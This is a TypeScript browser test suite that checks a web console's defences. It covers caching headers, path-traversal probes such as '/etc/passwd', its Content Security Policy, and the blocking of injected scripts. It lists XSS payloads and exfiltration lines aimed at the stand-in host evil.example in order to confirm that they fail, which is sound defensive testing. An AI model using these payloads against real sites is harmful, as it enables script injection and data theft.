import { request } from 'node:http'
import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { openBrowser, type Tab, type TabOptions, type TestBrowser } from '../helpers/browser.ts'
import { createPlayground, type UpNode } from '../helpers/cli.ts'

/** Source: issue of the console; everything a browser could ever load of it, compressed. */
const bundleBytesMax = 120_000

const built = 'dist/console'
let ground: Awaited<ReturnType<typeof createPlayground>>
let node: UpNode
let browser: TestBrowser
let tabs: Tab[] = []

beforeAll(async () => {
  ground = await createPlayground()
  ;[node, browser] = await Promise.all([ground.up('anna'), openBrowser()])
})
afterAll(async () => {
  await browser[Symbol.asyncDispose]()
  await ground[Symbol.asyncDispose]()
})
afterEach(async () => {
  const faults = tabs.flatMap((tab) => tab.faults)
  await Promise.all(tabs.map((tab) => tab.close()))
  tabs = []
  expect(faults).toEqual([])
})

async function open(options?: TabOptions): Promise<Tab> {
  const tab = await browser.open(options)
  tabs.push(tab)
  return tab
}

interface Answer {
  readonly status: number
  readonly headers: Readonly<Record<string, string | readonly string[] | undefined>>
  readonly body: Buffer
}

/** The path as it stands: clients that tidy it up would hide what is tried here. */
function get(path: string, headers: Readonly<Record<string, string>> = {}): Promise<Answer> {
  const { port, host } = new URL(node.api)
  return new Promise((resolve, reject) => {
    const sent = request({ host: 'localhost', port, path, headers: { host, ...headers } }, (response) => {
      const chunks: Buffer[] = []
      response.on('data', (chunk: Buffer) => chunks.push(chunk))
      response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers, body: Buffer.concat(chunks) }))
    })
    sent.on('error', reject).end()
  })
}

const script = readdirSync(join(built, 'assets')).find((name) => /^shell-.*\.js$/.test(name)) ?? ''

describe('the files of the console', () => {
  test('weigh at most 120 kB as browsers get them, all together', () => {
    const files = readdirSync(built, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.br'))
    const bytes = files.reduce((sum, name) => sum + statSync(join(built, name)).size, 0)
    expect(files.length).toBeGreaterThan(3)
    expect(bytes).toBeLessThanOrEqual(bundleBytesMax)
  })

  test('are given to anybody of this machine, packed as the browser likes it, and kept for good once their name holds their hash', async () => {
    const page = await get('/', { 'accept-encoding': 'gzip, deflate, br, zstd' })
    expect(page).toMatchObject({ status: 200, headers: { 'content-encoding': 'br', 'cache-control': 'no-cache', vary: 'accept-encoding' } })
    const plain = await get(`/assets/${script}`)
    expect(plain.headers).toMatchObject({ 'content-type': 'text/javascript; charset=utf-8', 'cache-control': 'public, max-age=31536000, immutable' })
    expect(plain.headers['content-encoding']).toBeUndefined()
    expect(plain.body.equals(readFileSync(join(built, 'assets', script)))).toBe(true)
    expect((await get(`/assets/${script}`, { 'accept-encoding': 'br;q=0, gzip;q=0.5' })).headers['content-encoding']).toBe('gzip')
  })

  test('are all that is given: nothing else of the disk has a path', async () => {
    const paths = [
      '/index.html',
      '/.stamp',
      '/assets/',
      '/assets',
      `/assets/${script}.br`,
      '/assets/../index.html',
      '/assets/..%2f..%2f..%2fpackage.json',
      '/assets/%2e%2e/%2e%2e/package.json',
      '/assets/....//package.json',
      '//assets/../../../../etc/passwd',
      `/assets/${script}%00.svg`,
      '/assets/__proto__',
      '/ASSETS/x.js',
    ]
    for (const path of paths) expect((await get(path)).status, path).toBe(401)
  })

  test('hold no address of another machine that would be loaded', () => {
    const page = readFileSync(join(built, 'index.html'), 'utf8')
    expect([...page.matchAll(/(?:src|href)="([^"]*)"/g)].map(([, to]) => to)).toSatisfy(
      (all: string[]) => all.length > 2 && all.every((to) => /^\/assets\/[\w.-]+$/.test(to)),
    )
    expect(page).not.toMatch(/<style|style=|<script(?![^>]* src=)|onload|onerror/)
  })

  test('come with a policy under which nothing foreign and nothing inline runs', async () => {
    const { headers } = await get('/')
    const policy = Object.fromEntries(
      String(headers['content-security-policy'])
        .split('; ')
        .map((part) => [part.split(' ')[0], part.split(' ').slice(1).join(' ')]),
    )
    expect(policy).toEqual({
      'default-src': "'none'",
      'script-src': "'self'",
      'style-src': "'self'",
      'img-src': "'self' data: blob:",
      'font-src': "'self'",
      'connect-src': "'self'",
      'base-uri': "'none'",
      'form-action': "'none'",
      'frame-ancestors': "'none'",
      'require-trusted-types-for': "'script'",
      'trusted-types': "'none'",
    })
    expect(headers['permissions-policy']).toContain('publickey-credentials-get=(self), publickey-credentials-create=(self)')
    expect(headers['permissions-policy']).toContain('camera=()')
    expect(headers).toMatchObject({
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
    })
  })
})

/** Ways in which text of a stranger, once in a page, would like to run or to tell somebody. Each sets `reached` when it gets through. */
const injections: readonly (readonly [what: string, code: string])[] = [
  ['markup', `document.body.innerHTML = '<img src=x onerror="globalThis.reached = true">'`],
  ['markup beside', `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="globalThis.reached = true">')`],
  ['a document of its own', `document.write('<script>globalThis.reached = true</script>')`],
  ['parsed markup', `document.body.append(new DOMParser().parseFromString('<b>x</b>', 'text/html').body); globalThis.reached = true`],
  ['a frame with markup', `Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.reached = true</script>' })`],
  ['eval', `(0, eval)('globalThis.reached = true')`],
  ['a function of text', `new Function('globalThis.reached = true')()`],
  ['a timer of text', `setTimeout('globalThis.reached = true')`],
  ['a script of text', `(() => { const s = document.createElement('script'); s.text = 'globalThis.reached = true'; document.head.append(s) })()`],
  ['a script of another machine', `(() => { const s = document.createElement('script'); s.src = 'http://evil.example/x.js'; document.head.append(s) })()`],
  ['a policy of its own', `trustedTypes.createPolicy('mine', { createHTML: (x) => x }); globalThis.reached = true`],
  ['the default policy', `trustedTypes.createPolicy('default', { createHTML: (x) => x }); globalThis.reached = true`],
]

/** What would carry something out of the machine. */
const leaks: readonly (readonly [what: string, code: string])[] = [
  ['a fetch', `fetch('http://evil.example/?secret')`],
  ['a beacon', `navigator.sendBeacon('http://evil.example/?secret', 'x')`],
  ['a picture', `new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = 'http://evil.example/?secret' })`],
  ['a socket', `new Promise((done) => { const s = new WebSocket('ws://evil.example/'); s.onopen = s.onerror = done })`],
  [
    'a stream of events',
    `new Promise((done) => { const s = new EventSource('http://evil.example/'); s.onopen = done; s.onerror = () => { s.close(); done() } })`,
  ],
  ['a form', `(() => { const f = document.createElement('form'); f.action = 'http://evil.example/'; document.body.append(f); f.submit() })()`],
  [
    'a frame',
    `new Promise((done) => { const f = document.createElement('iframe'); f.onload = done; f.src = 'http://evil.example/'; document.body.append(f) })`,
  ],
  [
    'a sheet of styles',
    `new Promise((done) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = l.onerror = done; l.href = 'http://evil.example/x.css'; document.head.append(l) })`,
  ],
  ['another port of this machine', `fetch('http://localhost:1/?secret')`],
]

/** Run from a timer of the page: what developer tools evaluate themselves may call `eval` under any policy. */
const inPage = (code: string): string => `new Promise((done) => setTimeout(async () => { try { await (async () => { ${code} })() } catch {} done() }))`

describe('in Chromium', () => {
  test('script that got into a page does not run', async () => {
    const { page, ...tab } = await open()
    await page.goto(`${node.api}/`)
    await page.getByRole('heading', { name: 'Log in' }).waitFor()
    for (const [what, code] of injections) {
      await page.evaluate(inPage(code))
      expect(await page.evaluate('globalThis.reached'), what).toBeUndefined()
    }
    expect(tab.forgive(/TrustedHTML|TrustedScript|Trusted Type|trusted-types|Content Security Policy|unsafe-eval/)).toBeGreaterThanOrEqual(
      injections.length - 2,
    )
  })

  test('nothing in a page can tell anybody elsewhere', async () => {
    const { page, ...tab } = await open()
    await page.goto(`${node.api}/`)
    await page.getByRole('heading', { name: 'Log in' }).waitFor()
    for (const [, code] of leaks) await page.evaluate(inPage(`return ${code}`))
    expect(browser.outside).toEqual([])
    expect(page.url()).toBe(`${node.api}/`)
    expect(tab.forgive(/Content Security Policy|Refused to|violates/)).toBeGreaterThanOrEqual(leaks.length - 1)
  })

  test('no page of another origin can hold the console in a frame', async () => {
    const { page, ...tab } = await open()
    await page.goto('data:text/html,<title>hostile</title>')
    await page.evaluate(
      `new Promise((done) => { const f = document.createElement('iframe'); f.onload = done; f.src = '${node.api}/'; document.body.append(f) })`,
    )
    const framed = page.frames().find((frame) => frame !== page.mainFrame())
    expect(await framed?.getByText('kindmesh').count()).toBe(0)
    expect(framed?.url()).not.toContain(node.api)
    tab.forgive(/frame-ancestors|X-Frame-Options|Refused to|violates/)
  })

  test('127.0.0.1 leads to localhost, where passkeys are', async () => {
    const { page } = await open()
    await page.goto(`${node.api.replace('localhost', '127.0.0.1')}/`)
    expect(page.url()).toBe(`${node.api}/`)
  })
})
